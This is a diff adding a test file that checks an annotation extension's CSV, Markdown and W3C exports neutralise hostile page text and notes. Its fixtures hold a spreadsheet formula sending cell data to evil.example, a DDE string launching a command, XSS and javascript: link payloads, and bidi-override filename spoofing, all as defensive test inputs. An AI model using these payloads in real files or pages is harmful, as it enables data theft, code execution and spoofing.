@@ -1,0 +1,90 @@
+/**
+ * A hostile page (title, quote, its context) and a hostile note, through every export format: the
+ * W3C file imports back into the very records it came from, the CSV holds every cell with no
+ * formula a spreadsheet would run, and the Markdown holds no link, image, raw HTML or bidi override
+ * that the page or note planted. A note far past what the extension stores (1 MB) still exports
+ * whole, quickly, and is refused on import with words rather than cut.
+ */
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { CSV_COLUMNS } from '../../../lib/annotations/export-csv';
+import { EXPORT_FORMATS } from '../../../lib/annotations/export-formats';
+import { parseAnnotationExport } from '../../../lib/annotations/import-annotations';
+import type { Mention } from '../../../lib/annotations/schema';
+import { claimsById, deepFreeze, makeMention } from './fixtures';
+
+const generatedAt = '2026-11-22T10:00:00.000Z';
+const now = new Date(generatedAt);
+
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+const HTML = '<img src=x onerror=alert(1)><script>alert(2)</script>';
+const MARKDOWN = '[click](javascript:alert(1)) ![x](https://evil.example/p.png) [[Vault note]](javascript:alert(3)) <https://evil.example>';
+const BIDI = 'invoice\u202Efdp.exe\u202C and \u2066isolated\u2069';
+
+const hostile: readonly Mention[] = deepFreeze([
+  makeMention({
+    pageTitle: `${FORMULA} ${HTML} ${BIDI}`,
+    exact: `${MARKDOWN} ${BIDI}`,
+    prefix: '\n@SUM(1+1)*cmd|\' /C calc\'!A0 ',
+    suffix: ` ${HTML}`,
+    start: 50,
+    note: { text: `${FORMULA}\n# Heading\n${MARKDOWN}\n${HTML}\n${BIDI}`, updatedAt: '2026-11-21T20:00:00.000Z' },
+    wrongMatch: { flagged: true, updatedAt: '2026-11-21T20:05:00.000Z' },
+  }),
+  makeMention({ pageTitle: '+cmd', exact: '-2+3 🚀 said the page', prefix: '🚀🚀 ', suffix: '', start: 900 }),
+]);
+
+const serialise = (format: keyof typeof EXPORT_FORMATS, mentions: readonly Mention[]) =>
+  EXPORT_FORMATS[format].serialise(mentions, claimsById, generatedAt);
+
+describe('exports of a hostile page and note', () => {
+  it('W3C: the file imports back into exactly the records it was made from', () => {
+    const parsed = parseAnnotationExport(serialise('w3c', hostile), now);
+    expect(parsed).toEqual({ ok: true, mentions: hostile });
+  });
+
+  it('CSV: every cell comes back, none opening as a formula, the page text behind its apostrophe', () => {
+    const rows = parse(serialise('csv', hostile), { columns: true, bom: true }) as Array<Record<string, string>>;
+    expect(rows).toHaveLength(2);
+    const TRIGGER = /^(?:[\t\r\0]|\s*[=+\-@])/;
+    for (const row of rows) for (const column of CSV_COLUMNS) expect(row[column], column).not.toMatch(TRIGGER);
+    const [first, second] = [rows[0]!, rows[1]!];
+    expect(first.page_title).toBe(`'${hostile[0]!.pageTitle}`);
+    expect(first.prefix).toBe(`'${hostile[0]!.anchor.prefix}`);
+    expect(first.note).toBe(`'${hostile[0]!.note!.text}`);
+    // Text that opens with no trigger is the page's, as it was (bidi controls too: a spreadsheet keeps them inside their cell).
+    expect(first.quote).toBe(hostile[0]!.anchor.exact);
+    expect(first.wrong_match).toBe('true');
+    expect([second.page_title, second.quote]).toEqual(["'+cmd", "'-2+3 🚀 said the page"]);
+  });
+
+  it('Markdown: no link, image, raw HTML, heading or bidi control of the page\'s or the note\'s', () => {
+    const md = serialise('markdown', hostile);
+    // The only links are ours: the page (its heading) and the claim's https sources.
+    const destinations = [...md.matchAll(/\]\(([^)]*)\)/g)].map((match) => match[1]);
+    expect(destinations.every((href) => href === hostile[0]!.pageUrl || /^https:\/\/(acme|news)\.example\//.test(href!))).toBe(true);
+    expect(md).not.toMatch(/(^|[^\\])<(img|script|https)/m);
+    expect(md).not.toMatch(/(^|[^\\])!\[/m);
+    expect(md).not.toMatch(/\]\(javascript/);
+    expect(md).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
+    // The note's "# Heading" is no heading: the only headings are the file's and the page's.
+    expect(md.match(/^#+ /gm)).toEqual(['# ', '## ']);
+    // And the words are all still there to read.
+    expect(md).toContain('invoicefdp.exe and isolated');
+    expect(md).toContain('\\<script\\>alert(2)\\</script\\>');
+  });
+
+  it('a 1 MB note exports whole in every format within two seconds (about 0.15 s here), and import refuses it in words instead of cutting it', () => {
+    const note = `${'A researcher\'s long note, =1+1 <b>bold</b> #tag. '.repeat(20_000).slice(0, 1_000_000)}`;
+    const big = [makeMention({ note: { text: note, updatedAt: '2026-11-21T20:00:00.000Z' } })];
+    const started = performance.now();
+    const files = { w3c: serialise('w3c', big), csv: serialise('csv', big), markdown: serialise('markdown', big) };
+    expect(performance.now() - started).toBeLessThan(2000);
+    expect(JSON.parse(files.w3c).first.items[0].body.find((body: { purpose: string }) => body.purpose === 'commenting').value).toBe(note);
+    expect((parse(files.csv, { columns: true, bom: true }) as Array<Record<string, string>>)[0]!.note).toBe(note);
+    expect(files.markdown.length).toBeGreaterThan(note.length);
+    expect(files.markdown).not.toMatch(/(^|[^\\])<b>/m);
+    const refused = parseAnnotationExport(files.w3c, now);
+    expect(refused).toEqual({ ok: false, error: 'item 1 field body (commenting).value invalid: must be at most 20000 characters' });
+  });
+});
